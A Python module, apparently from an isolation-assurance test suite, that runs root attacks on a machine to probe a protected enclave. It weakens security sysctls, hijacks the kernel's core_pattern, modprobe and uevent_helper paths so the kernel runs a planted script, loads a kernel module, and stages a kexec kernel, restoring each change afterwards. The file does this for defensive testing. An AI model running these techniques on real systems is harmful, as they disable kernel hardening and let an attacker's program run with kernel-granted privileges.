"""Attacks on the whole machine: settings, the kernel's helpers, modules, another kernel.

Each restores its changes before it ends, and none runs unless requested.
"""

from __future__ import annotations

import contextlib
import ctypes
import lzma
import os
import resource
import shutil
import tempfile
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

from assurance.root.attacker.attacks import Attack, ImpossibleError, Outcome
from assurance.root.attacker.linux import (
    SYS_DELETE_MODULE,
    SYS_INIT_MODULE,
    SYS_KEXEC_FILE_LOAD,
    SYS_KEXEC_LOAD,
    name_of,
    syscall,
)
from assurance.root.attacker.victim import Victim

_SYSCTLS = {
    "kernel/yama/ptrace_scope": "0",
    "kernel/modules_disabled": "0",
    "kernel/kexec_load_disabled": "0",
    "kernel/perf_event_paranoid": "-1",
    "kernel/unprivileged_bpf_disabled": "0",
    "kernel/kptr_restrict": "0",
    "kernel/core_pattern": "core",
    "fs/suid_dumpable": "2",
}
"""The weakest value of each."""
_PROC = Path("/proc/sys")
_HELPER_S = 5.0
BROUGHT_MODULES = Path("/tmp/modules")
"""Where root puts those that it brings along, for a machine that has none."""
_MODULES = ("lib/*.ko*", "crypto/*.ko*")
_SMALL_MODULES = 32 << 10
_KEXEC_UNLOAD, _NO_INITRAMFS = 1, 4


def sysctls(victim: Victim) -> Outcome:
    """Writes each setting's weakest value, and puts the old one back."""
    del victim
    done, refused = [], []
    for name, weakest in _SYSCTLS.items():
        path = _PROC / name
        if not path.exists():
            continue
        try:
            old = path.read_text().strip()
            path.write_text(weakest)
            done.append(name)
            path.write_text(old)
        except OSError as error:
            refused.append(f"{name} {name_of(error)}")
    return Outcome(bool(done), f"written: {', '.join(done) or 'none'}; refused: {', '.join(refused) or 'none'}")


@contextmanager
def _helper(victim: Victim) -> Iterator[tuple[Path, Path]]:
    """A program that the kernel is to start, which notes its rights and whether the enclave's memory opens to it."""
    folder = Path(tempfile.mkdtemp(prefix="root-helper-"))
    script, said = folder / "helper", folder / "said"
    pid = victim.enclave()
    # The shell alone, without other programs: whatever starts it gives it no environment.
    script.write_text(
        '#!/bin/sh\nwhile read -r name value; do [ "$name" = CapEff: ] && rights=$value; done < /proc/self/status\n'
        f"read -r line < /proc/{pid}/maps && opened=yes\n"
        f'echo "$rights ${{opened:-no}} ." > {said}\n'
    )
    script.chmod(0o755)
    try:
        yield script, said
    finally:
        shutil.rmtree(folder, ignore_errors=True)


@contextmanager
def _set(path: Path, value: str) -> Iterator[None]:
    """A setting, for as long as the block runs.

    Raises:
        OSError: The kernel refuses.
        ImpossibleError: It has no such setting.
    """
    if not path.exists():
        raise ImpossibleError(f"this kernel has no {path}")
    old = path.read_text()
    path.write_text(value)
    try:
        yield
    finally:
        path.write_text(old.strip() or "\n")


def _told(said: Path, until: float) -> Outcome:
    while not (said.exists() and said.read_text().endswith(".\n")):
        if time.monotonic() > until:
            return Outcome(False, "the kernel did not start the helper")
        time.sleep(0.02)
    rights, opened, _ = said.read_text().split()
    return Outcome(True, f"a helper of the kernel's: {rights}, the enclave {'opens' if opened == 'yes' else 'shut'}")


def core_helper(victim: Victim) -> Outcome:
    """Has the kernel start a program for a crash of one's own."""
    with _helper(victim) as (script, said), _set(_PROC / "kernel/core_pattern", f"|{script}"):
        child = os.fork()
        if child == 0:
            resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
            os.abort()
        os.waitpid(child, 0)
        return _told(said, victim.until(_HELPER_S))


def modprobe_helper(victim: Victim) -> Outcome:
    """Has the kernel start a program to load a module that it lacks."""
    with _helper(victim) as (script, said), _set(_PROC / "kernel/modprobe", str(script)):
        unknown = script.parent / "unknown"
        unknown.write_bytes(b"\xff\xff\xff\xff")
        unknown.chmod(0o755)
        child = os.fork()
        if child == 0:
            with contextlib.suppress(OSError):
                os.execv(unknown, ["unknown"])  # noqa: S606  it is no program
            os._exit(0)
        os.waitpid(child, 0)
        return _told(said, victim.until(_HELPER_S))


def uevent_helper(victim: Victim) -> Outcome:
    """Has the kernel start a program for an event of a device."""
    with _helper(victim) as (script, said), _set(Path("/sys/kernel/uevent_helper"), str(script)):
        Path("/sys/devices/virtual/mem/null/uevent").write_text("change")
        return _told(said, victim.until(_HELPER_S))


def module(victim: Victim) -> Outcome:
    """Loads a real module of this kernel that is not loaded, and unloads it."""
    del victim
    folders = [one for one in (Path("/lib/modules") / os.uname().release, BROUGHT_MODULES) if one.is_dir()]
    if not folders:
        raise ImpossibleError("there is no module of this kernel here")
    loaded = {line.split()[0] for line in Path("/proc/modules").read_text().splitlines()}
    refused: set[str] = set()
    for path in [path for folder in folders for kind in _MODULES for path in sorted(folder.rglob(kind))]:
        name = path.name.split(".ko")[0].replace("-", "_")
        if name in loaded or path.suffix not in (".ko", ".xz") or path.stat().st_size > _SMALL_MODULES:
            continue
        image = lzma.decompress(path.read_bytes()) if path.suffix == ".xz" else path.read_bytes()
        if b"\0depends=\0" not in image:
            continue
        try:
            syscall(SYS_INIT_MODULE, ctypes.c_char_p(image), len(image), ctypes.c_char_p(b""))
        except OSError as error:
            refused.add(name_of(error))
            if error.errno == 1:
                break
            continue
        syscall(SYS_DELETE_MODULE, ctypes.c_char_p(name.encode()), os.O_NONBLOCK)
        return Outcome(True, f"module {name} loaded")
    return Outcome(False, ", ".join(sorted(refused)) or "no small module to try")


def kexec(victim: Victim) -> Outcome:
    """Stages another kernel, or the absence of one, and unloads it; it is never started."""
    del victim
    kernels = [path for path in (*Path("/boot").glob("vmlinuz*"), Path("/vmlinuz")) if path.exists()]
    try:
        if kernels:
            file = os.open(kernels[0], os.O_RDONLY)
            syscall(SYS_KEXEC_FILE_LOAD, file, -1, 1, ctypes.c_char_p(b""), _NO_INITRAMFS)
            syscall(SYS_KEXEC_FILE_LOAD, -1, -1, 0, None, _KEXEC_UNLOAD)
            return Outcome(True, f"{kernels[0].name} staged")
        syscall(SYS_KEXEC_LOAD, 0, 0, None, 0)
    except OSError as error:
        if error.errno == 38:
            raise ImpossibleError("this kernel has no kexec") from None
        raise
    return Outcome(True, "an empty image was staged")


ATTACKS = (
    Attack("sysctls", "settings", sysctls, machine=True),
    Attack("core_helper", "settings", core_helper, machine=True),
    Attack("modprobe_helper", "settings", modprobe_helper, machine=True),
    Attack("uevent_helper", "settings", uevent_helper, machine=True),
    Attack("module", "kernel", module, machine=True),
    Attack("kexec", "kernel", kexec, machine=True),
)
